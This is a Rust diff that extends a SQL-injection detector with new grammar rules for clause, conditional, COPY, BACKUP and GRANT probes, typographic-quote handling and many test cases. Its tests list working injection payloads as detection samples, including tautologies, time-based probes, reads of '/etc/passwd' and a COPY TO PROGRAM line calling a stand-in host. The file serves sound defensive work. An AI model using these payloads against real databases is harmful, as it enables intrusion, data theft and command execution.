@@ -95,6 +95,11 @@ const SQL_FUNCTIONS: &[&[u8]] = &[
     b"benchmark",
     b"pg_sleep",
     b"load_file",
+    b"current_database",
+    b"current_setting",
+    b"current_schema",
+    b"sqlite_version",
+    b"pg_backend_pid",
 ];
 
 /// String, hashing and numeric functions of SQL dialects, some of them also words: a value
@@ -265,9 +270,8 @@ fn classify(w: &[u8]) -> K {
         b"like" | b"rlike" | b"regexp" | b"between" | b"in" | b"is" | b"sounds" | b"div"
         | b"mod" | b"collate" | b"escape" => return K::Op,
         b"insert" | b"update" | b"delete" | b"drop" | b"exec" | b"execute" | b"declare"
-        | b"create" | b"alter" | b"truncate" | b"shutdown" | b"grant" | b"revoke" | b"call" => {
-            Kw::Stmt
-        }
+        | b"create" | b"alter" | b"truncate" | b"shutdown" | b"grant" | b"revoke" | b"call"
+        | b"backup" | b"restore" | b"copy" => Kw::Stmt,
         b"sleep" | b"benchmark" | b"pg_sleep" | b"waitfor" | b"dbms_lock" | b"randomblob" => {
             Kw::TimeFunc
         }
@@ -360,6 +364,16 @@ fn catalog_member(schema: &[u8], rest: &[u8]) -> bool {
         ],
     };
     known.iter().any(|k| rest.starts_with(k))
+}
+
+/// Tables every database of a dialect has, which a probe reads and an application's own
+/// query text rarely names: Oracle's `dual`, `v$…` views and `dba_`/`all_` dictionary,
+/// PostgreSQL's `pg_…` catalogs.
+fn system_table(w: &[u8]) -> bool {
+    w == b"dual"
+        || [&b"v$"[..], b"gv$", b"dba_", b"all_", b"pg_"]
+            .iter()
+            .any(|p| w.starts_with(p))
 }
 
 /// Tokenizes `b` (lowercased). With `quote`, the input starts inside a string opened by that
@@ -597,6 +611,17 @@ impl Grammar<'_> {
         ) && self.k(self.sig(i + 1)) == Some(K::LParen)
     }
 
+    /// A comment at `i` that cuts the rest of the query: `--`, `/*`, or a `#` with no words
+    /// after it on its line (`6 #2` numbers an item).
+    fn cutting_comment(&self, i: usize) -> bool {
+        self.k(i) == Some(K::Comment) && {
+            let w = self.word(i);
+            w.starts_with(b"--")
+                || w.starts_with(b"/*")
+                || (w.starts_with(b"#") && !w.iter().any(u8::is_ascii_alphanumeric))
+        }
+    }
+
     fn end_or_comment(&self, i: usize) -> bool {
         matches!(self.k(i), None | Some(K::Comment | K::Semi))
     }
@@ -650,7 +675,25 @@ impl Grammar<'_> {
                     }
                     Some(K::LParen) => true,
                     Some(K::Word | K::Kw(_)) if self.is_call(n) => true,
-                    Some(K::Word) => {
+                    // `SELECT current_user;`: a function SQL calls without parentheses.
+                    Some(K::Kw(Kw::Func))
+                        if matches!(
+                            self.word(n),
+                            b"current_user" | b"session_user" | b"system_user"
+                        ) =>
+                    {
+                        self.end_or_comment(after)
+                            || matches!(self.k(after), Some(K::Comma | K::Kw(Kw::From)))
+                    }
+                    // MSSQL's `SELECT TOP 1 name FROM`; "select top 3" alone is a menu label.
+                    Some(K::Word) if self.word(n) == b"top" && self.k(after) == Some(K::Num) => {
+                        let item = self.sig(after + 1);
+                        let then = self.sig(item + 1);
+                        !strict
+                            || (matches!(self.k(item), Some(K::Word | K::Op))
+                                && matches!(self.k(then), Some(K::Comma | K::Kw(Kw::From))))
+                    }
+                    Some(K::Word | K::Kw(Kw::Func)) => {
                         matches!(self.k(after), Some(K::Comma))
                             || (self.k(after) == Some(K::Kw(Kw::From))
                                 && (!strict || {
@@ -692,8 +735,37 @@ impl Grammar<'_> {
                     }
                     b"declare" => self.k(n) == Some(K::Var),
                     b"shutdown" => self.end_or_comment(n) || next == b"with",
-                    b"grant" | b"revoke" => {
-                        matches!(next, b"all" | b"select" | b"insert" | b"update" | b"delete")
+                    b"grant" | b"revoke" => matches!(
+                        next,
+                        b"all"
+                            | b"select"
+                            | b"insert"
+                            | b"update"
+                            | b"delete"
+                            | b"connect"
+                            | b"resource"
+                            | b"dba"
+                            | b"execute"
+                    ),
+                    // MSSQL `BACKUP DATABASE master TO DISK='\\host\share'`.
+                    b"backup" | b"restore" => {
+                        matches!(next, b"database" | b"log")
+                            && self.k(self.sig(n + 1)) == Some(K::Word)
+                    }
+                    // PostgreSQL `COPY (SELECT …) TO PROGRAM`, `COPY t FROM '/etc/passwd'`.
+                    b"copy" => {
+                        let dir = self.sig(n + 1);
+                        // (Only a SELECT inside: a nested `copy (copy (…` must not recurse.)
+                        (self.k(n) == Some(K::LParen)
+                            && self.k(self.sig(n + 1)) == Some(K::Kw(Kw::Select))
+                            && self.statement_at(n, true))
+                            || (self.k(n) == Some(K::Word)
+                                && matches!(self.word(dir), b"from" | b"to")
+                                && (matches!(self.k(self.sig(dir + 1)), Some(K::Str { .. }))
+                                    || matches!(
+                                        self.word(self.sig(dir + 1)),
+                                        b"program" | b"stdout" | b"stdin"
+                                    )))
                     }
                     _ => false,
                 }
@@ -729,10 +801,11 @@ impl Grammar<'_> {
             // A hex literal is an encoded string, a hallmark of obfuscation (`select 0x6162`).
             Some(K::Num) if self.word(item).starts_with(b"0x") => false,
             Some(K::Num | K::Str { .. } | K::Kw(Kw::Value)) => self.k(after).is_none(),
-            Some(K::Word) if self.k(after) == Some(K::Kw(Kw::From)) => {
+            Some(K::Word | K::Kw(Kw::Func)) if self.k(after) == Some(K::Kw(Kw::From)) => {
                 let table = self.sig(after + 1);
                 let tail = self.sig(table + 1);
                 self.k(table) == Some(K::Word)
+                    && !system_table(self.word(table))
                     && (self.k(tail).is_none()
                         || (self.k(tail) == Some(K::Kw(Kw::Where))
                             && self.k(self.sig(tail + 1)).is_none()))
@@ -774,12 +847,7 @@ impl Grammar<'_> {
             match self.k(j) {
                 Some(K::LParen) => {
                     let close = self.matching(j);
-                    e.call |= self.t[j..close].iter().any(|t| {
-                        matches!(
-                            t.k,
-                            K::Kw(Kw::Select | Kw::Func | Kw::TimeFunc | Kw::Danger)
-                        )
-                    });
+                    e.call |= self.sql_inside(j, close);
                     e.literals += 1;
                     j = close + 1;
                 }
@@ -790,12 +858,7 @@ impl Grammar<'_> {
                     // counts as SQL only for SQL functions or with SQL inside.
                     let sql = self.k(j) != Some(K::Word)
                         || self.paranoia >= 2
-                        || self.t[open..close].iter().any(|t| {
-                            matches!(
-                                t.k,
-                                K::Kw(Kw::Select | Kw::Func | Kw::TimeFunc | Kw::Danger)
-                            )
-                        });
+                        || self.sql_inside(open, close);
                     if sql {
                         e.call = true;
                     } else {
@@ -823,6 +886,27 @@ impl Grammar<'_> {
             break;
         }
         (e.literals + e.words > 0 || e.call).then_some(Expr { end: j, ..e })
+    }
+
+    /// Whether the tokens `from..to` hold SQL: a sub-select, a SQL function or object, a
+    /// `CASE WHEN`.
+    fn sql_inside(&self, from: usize, to: usize) -> bool {
+        (from..to.min(self.t.len())).any(|k| {
+            matches!(
+                self.t[k].k,
+                K::Kw(Kw::Select | Kw::Func | Kw::TimeFunc | Kw::Danger)
+            ) || (self.word(k) == b"case" && self.word(self.sig(k + 1)) == b"when")
+        })
+    }
+
+    /// `CASE WHEN` and a comparison at `i`: the conditional of boolean and error probes.
+    fn case_when(&self, i: usize) -> bool {
+        let when = self.sig(i + 1);
+        self.word(i) == b"case"
+            && self.word(when) == b"when"
+            && self
+                .value_expr(when + 1)
+                .is_some_and(|v| self.comparison(self.sig(v.end)))
     }
 
     /// The index of the parenthesis closing the one at `open` (or the end).
@@ -857,7 +941,8 @@ impl Grammar<'_> {
         if matches!(
             self.k(p),
             Some(K::Kw(Kw::Select | Kw::Exists | Kw::TimeFunc))
-        ) {
+        ) || self.case_when(p)
+        {
             return true;
         }
         let Some(lhs) = self.value_expr(p) else {
@@ -879,11 +964,14 @@ impl Grammar<'_> {
             return true;
         }
         let literal = lhs.literals > 0 && lhs.words == 0;
+        // `OR true` alone is a tautology; `1 or 2` is a choice.
+        let truth = self.word(p) == b"true" && lhs.end == p + 1;
         literal
             && (matches!(
                 self.k(n),
                 Some(K::Comment | K::Semi | K::Kw(Kw::Clause | Kw::Union))
-            ) || (self.paranoia >= 2 && self.k(n).is_none()))
+            ) || self.cutting_comment(lhs.end)
+                || ((truth || self.paranoia >= 2) && self.k(n).is_none()))
     }
 
     /// What follows a break-out of a string (or of a parenthesis) at `i` makes it SQL.
@@ -918,10 +1006,10 @@ impl Grammar<'_> {
                 return None;
             }
         }
+        let attached = quote > 0 && !self.b[quote - 1].is_ascii_whitespace();
         match self.k(j)? {
             K::Comment => {
                 let w = self.word(j);
-                let attached = quote > 0 && !self.b[quote - 1].is_ascii_whitespace();
                 // A MySQL `#` comment cuts the query; words after it on the same line are the
                 // prose of an inch mark or a number sign (`7" #2 needle`), unless SQL follows
                 // on the next line.
@@ -930,7 +1018,7 @@ impl Grammar<'_> {
                     || !w[1..].iter().any(u8::is_ascii_alphanumeric);
                 (w.starts_with(b"--")
                     || w.starts_with(b"/*")
-                    || (w.starts_with(b"#") && attached && cuts))
+                    || (w.starts_with(b"#") && (attached || quote == 0) && cuts))
                     .then(|| span("sqli.string_break", j))?
             }
             K::Logic if self.condition_at(j + 1) => span("sqli.string_break", j + 1),
@@ -946,6 +1034,16 @@ impl Grammar<'_> {
             {
                 span("sqli.string_break", j + 1)
             }
+            // `'-'`, `'||'`, `' or ''*'`, `'||f(x)||'`: the break is rejoined by the
+            // application's own closing quote, with only SQL operators between. A quote after
+            // a digit is a foot or inch mark (`12"-14"`), not a break.
+            K::Logic | K::Op
+                if (quote == 0 || (attached && !self.b[quote - 1].is_ascii_digit()))
+                    && self.rejoins(j) =>
+            {
+                span("sqli.string_break", j)
+            }
+            K::LParen if self.statement_at(j, false) => span("sqli.string_break", j + 1),
             K::Op => {
                 let n = self.sig(j + 1);
                 let rhs = self.value_expr(j + 1);
@@ -976,6 +1074,48 @@ impl Grammar<'_> {
         }
     }
 
+    /// From the operator at `j` to the end: nothing but symbolic operators and literals (at
+    /// least one operator not a word), or a concatenation `|| expr ||`, then a lone quote left
+    /// open, the one the application closes.
+    fn rejoins(&self, j: usize) -> bool {
+        let Some(last) = self.t.len().checked_sub(1) else {
+            return false;
+        };
+        let closing = self.t[last];
+        if closing.k != (K::Str { closed: false }) || closing.e - closing.s != 1 || last <= j {
+            return false;
+        }
+        let symbolic = |t: &Tok| self.b[t.s..t.e].iter().all(|c| c.is_ascii_punctuation());
+        let mut operators = 0;
+        let plain = self.t[j..last].iter().all(|t| match t.k {
+            K::Op | K::Logic => {
+                operators += usize::from(symbolic(t));
+                symbolic(t) || matches!(&self.b[t.s..t.e], b"or" | b"and")
+            }
+            K::Str { closed: true } | K::Num | K::Kw(Kw::Value) | K::Comment => true,
+            _ => false,
+        });
+        // Between double quotes, a sign alone is a quoted symbol or a measure (`"-"`, `"*"`);
+        // a boolean operator (`"-||0"`, `" or ""-"`) makes it SQL.
+        let boolean = self.t[j..last].iter().any(|t| t.k == K::Logic);
+        if plain && operators > 0 && (boolean || self.b[closing.s] == b'\'') {
+            return true;
+        }
+        let concat = self.word(j);
+        if !matches!(concat, b"||" | b"+") {
+            return false;
+        }
+        // Arithmetic `+` runs on to the closing quote; `||` ends the expression.
+        self.value_expr(j + 1).is_some_and(|e| {
+            let op = self.sig(e.end);
+            if concat == b"+" {
+                e.end > last && e.call
+            } else {
+                self.word(op) == concat && self.sig(op + 1) == last
+            }
+        })
+    }
+
     /// `ORDER BY 3`, `GROUP BY x`, `HAVING 1=1`, `LIMIT 1`, `PROCEDURE ANALYSE`,
     /// `INTO OUTFILE`, `WHERE 1=1` after a value.
     fn clause_at(&self, i: usize) -> bool {
@@ -998,6 +1138,43 @@ impl Grammar<'_> {
         }
     }
 
+    /// A clause opening the value, stricter than after a value since nothing precedes it:
+    /// `WHERE`/`HAVING` and a SQL condition, `ORDER`/`GROUP BY` and column numbers or SQL
+    /// calls up to the end or a comment (not "order by 5 pm"), `AS alias WHERE …`. The index
+    /// after what was read.
+    fn leading_clause(&self, i: usize) -> Option<usize> {
+        let mut i = i;
+        if self.word(i) == b"as" && matches!(self.k(self.sig(i + 1)), Some(K::Word | K::Str { .. }))
+        {
+            i = self.sig(self.sig(i + 1) + 1);
+        }
+        let n = self.sig(i + 1);
+        match self.word(i) {
+            b"where" | b"having" => self.condition_at(n).then_some(n + 1),
+            b"order" | b"group" if self.k(n) == Some(K::Kw(Kw::By)) => {
+                let mut j = self.sig(n + 1);
+                loop {
+                    let sql_call = self.is_call(j)
+                        && matches!(self.k(j), Some(K::Kw(Kw::Func | Kw::TimeFunc | Kw::Danger)));
+                    if self.k(j) == Some(K::Num) {
+                        j = self.sig(j + 1);
+                    } else if sql_call {
+                        j = self.sig(self.matching(self.sig(j + 1)) + 1);
+                    } else {
+                        return None;
+                    }
+                    if self.k(j) != Some(K::Comma) {
+                        break;
+                    }
+                    j = self.sig(j + 1);
+                }
+                (self.end_or_comment(j) || matches!(self.k(j), Some(K::Kw(Kw::Clause | Kw::Union))))
+                    .then_some(j)
+            }
+            _ => None,
+        }
+    }
+
     /// A probe of the database rather than a complete injection: a value opening with a call
     /// of a SQL-only function, a `::` cast of a value to a SQL type, or a comment only MySQL
     /// reads as code (`/*!50000 …*/`) or as an optimizer hint (`/*+ …*/`).
@@ -1012,8 +1189,15 @@ impl Grammar<'_> {
             let open = self.sig(first + 1);
             return Some(("sqli.probe", t[first].s, t[open].e));
         }
+        let mut p = first;
+        while self.k(p) == Some(K::LParen) {
+            p = self.sig(p + 1);
+        }
+        if self.case_when(p) {
+            return Some(("sqli.probe", t[first].s, t[p].e));
+        }
         // MySQL's `IF(1=1,…)` opening the value: a condition being probed.
-        if adjacent && self.word(first) == b"if" {
+        if adjacent && matches!(self.word(first), b"if" | b"iif") {
             let open = self.sig(first + 1);
             let lhs = self.sig(open + 1);
             let op = self.sig(lhs + 1);
@@ -1143,6 +1327,10 @@ impl Grammar<'_> {
         {
             return Some(("sqli.statement", at(first), at(first + 2)));
         }
+        // A value that opens with a clause continues a query (`ORDER BY 3--`, `HAVING 1=1`).
+        if let Some(e) = self.leading_clause(first) {
+            return Some(("sqli.clause", at(first), at(e)));
+        }
         // A value that starts with `OR`/`AND` continues a condition: `OR 1=1`.
         if self.k(first) == Some(K::Logic) && self.condition_at(first + 1) {
             return Some(("sqli.tautology", at(first), at(first + 4)));
@@ -1232,7 +1420,11 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
     if !worth {
         return None;
     }
-    let b = s.bytes();
+    let typographic = s
+        .has(class::HIGH)
+        .then(|| plain_quotes(s.bytes()))
+        .flatten();
+    let b = typographic.as_deref().unwrap_or(s.bytes());
     let mut contexts: [Option<u8>; 3] = [None, None, None];
     let mut n = 1;
     if memchr::memchr(b'\'', b).is_some() {
@@ -1243,25 +1435,60 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         contexts[n] = Some(b'"');
         n += 1;
     }
-    // A form-like `name=value` (a body sent without its content type): the value alone too.
+    // A form-like `name=value` (a body sent without its content type), or a value under a
+    // folder (`incoming/<name>`, an object key): the value alone too.
     let mut starts = [0usize; 2];
     let mut m = 1;
-    if let Some(eq) = memchr::memchr(b'=', &b[..b.len().min(64)]) {
-        if eq > 0
-            && b[..eq]
-                .iter()
-                .all(|c| is_word(*c) || matches!(c, b'-' | b'[' | b']' | b'.'))
-        {
-            starts[1] = eq + 1;
+    let head = &b[..b.len().min(64)];
+    if let Some(sep) = memchr::memchr2(b'=', b'/', head) {
+        let name = |c: &u8| is_word(*c) || matches!(c, b'-' | b'[' | b']' | b'.');
+        if sep > 0 && sep + 1 < b.len() && head[..sep].iter().all(name) {
+            starts[1] = sep + 1;
             m = 2;
         }
     }
     for &from in &starts[..m] {
+        if lone_quote(&b[from..]) {
+            return Some(Hit::new("sqli.probe", from, b.len()));
+        }
         if let Some(h) = contexts_at(&b[from..], &contexts[..n], s.paranoia) {
             return Some(Hit::new(h.rule, h.start + from, h.end + from));
         }
     }
     None
+}
+
+/// The value with typographic quotes (`‘ ’ ʼ ´ “ ”`) read as the ASCII quotes some database
+/// charsets convert them to (`1’ OR ’1’=’1`), or `None` when it has none. The length is kept
+/// (the quote, then NULs the tokenizer skips) so that offsets still point into the value.
+fn plain_quotes(b: &[u8]) -> Option<Vec<u8>> {
+    let quote = |w: &[u8]| match w {
+        [0xe2, 0x80, 0x98 | 0x99, ..] | [0xca, 0xbc, ..] | [0xc2, 0xb4, ..] => Some(b'\''),
+        [0xe2, 0x80, 0x9c | 0x9d, ..] => Some(b'"'),
+        _ => None,
+    };
+    let mut out: Option<Vec<u8>> = None;
+    for at in memchr::memchr3_iter(0xe2, 0xca, 0xc2, b) {
+        if let Some(q) = quote(&b[at..]) {
+            let len = if b[at] == 0xe2 { 3 } else { 2 };
+            let o = out.get_or_insert_with(|| b.to_vec());
+            o[at] = q;
+            o[at + 1..at + len].fill(0);
+        }
+    }
+    out
+}
+
+/// A quote alone, maybe closing a parenthesis or the statement (`'`, `')`, `';`, `\'`, `")`):
+/// the first probe of every injection test, and no value an API expects. A lone `"` or `""`
+/// is left alone: it is also an inch or ditto mark, or an empty string written out.
+fn lone_quote(b: &[u8]) -> bool {
+    let single = b.contains(&b'\'');
+    let closes = b.iter().any(|c| matches!(c, b')' | b';'));
+    b.len() <= 4
+        && b.iter()
+            .all(|c| matches!(c, b'\'' | b'"' | b'`' | b')' | b';' | b'\\'))
+        && (single || (b.contains(&b'"') && closes))
 }
 
 fn contexts_at(b: &[u8], contexts: &[Option<u8>], paranoia: u8) -> Option<Hit> {
@@ -1357,6 +1584,108 @@ mod tests {
             "OR '{\"a\":\"b\"}' ? 'a'",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
+        }
+    }
+
+    #[test]
+    fn attack_classes() {
+        for a in [
+            // Column counting and clauses opening the value.
+            " ORDER BY 3-- ",
+            "ORDER BY 1,2,3",
+            "order by 31337#",
+            "ORDER BY SLEEP(5)",
+            "ORDER BY 1,SLEEP(5),3",
+            "group by 2",
+            " HAVING 1=1",
+            "WHERE 1=1 AND 1=0--",
+            " AS x WHERE 1=1 AND 1=1#",
+            // Boolean probes ending in a comment.
+            "' or true#",
+            "' or 1#",
+            // A break rejoined by the application's closing quote.
+            "'-'",
+            "'*'",
+            "'^'",
+            "'||'",
+            "' or ''-'",
+            "\"-||0\"",
+            "admin'||'",
+            "' || myapp.adduser('admin', 'x') || '",
+            "'+sleep(10)+'",
+            // Lone quotes.
+            "'",
+            "')",
+            "';",
+            "\\'",
+            "\");",
+            // Enumeration and statements.
+            "select current_user;",
+            "SELECT user FROM dual",
+            "select username from dba_users",
+            "select banner from v$version",
+            "current_database()",
+            "' (select top 1 name from sysobjects)",
+            "' (select top 1",
+            "BACKUP database master to disk='\\\\10.0.0.1\\s\\x.dat'",
+            "' grant connect to name; grant resource to name; --",
+            "copy t from '/etc/passwd';",
+            "';copy (select '') to program 'nslookup x.example'--",
+            // Under a folder, as in an object key.
+            "incoming/ORDER BY 1--",
+            "uploads/' or 1=1--",
+            "incoming/'",
+            // Typographic quotes some charsets turn into ASCII ones.
+            "1’ OR ’1’=’x’#",
+            "‘ OR ‘1‘=‘x‘--",
+            "1´ OR ´1´=´x´",
+            "“ or “1”=“1",
+            // Conditionals of boolean and error probes.
+            "(CASE WHEN 1=1 THEN 1 ELSE 0 END)",
+            "1 AND (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1",
+            "IIF(1=1,1,1/0)",
+        ] {
+            assert!(rule(a).is_some(), "missed {a}");
+        }
+    }
+
+    #[test]
+    fn near_misses_pass() {
+        for b in [
+            "Order by phone: 555-1234",
+            "order by 5 pm",
+            "Where is the station?",
+            "having 2 kids is fun",
+            "group by region and year",
+            "5 or 6 #2 brush",
+            "true or false?",
+            "1 or 2",
+            "12\"-14\"",
+            "BACKDROP -3'+-4'",
+            "\"-\"",
+            "\"*\"",
+            "\"",
+            "\"\"",
+            "O'Brien",
+            "'quoted'",
+            "He's 6' 2\" tall",
+            "select top 3",
+            "Select user from the list",
+            "copy the text from 'page 3' by hand",
+            "backup database weekly",
+            "Grant access to the team",
+            "docs/select one option",
+            "photos/2024/beach.jpg",
+            "Union Station, order #5",
+            "SCRAPBOOK PAPER PACK (8.5X11\"-300 DPI) --",
+            "Don’t select the red one; or do",
+            "‘Hello’ or ‘bye’ – pick one",
+            "He said “yes” or “no”",
+            "it’s 5 o’clock",
+            "Case when the door is open (see 2)",
+            "In case (of rain) = umbrella",
+        ] {
+            assert_eq!(rule(b), None, "false positive on {b}");
         }
     }
 
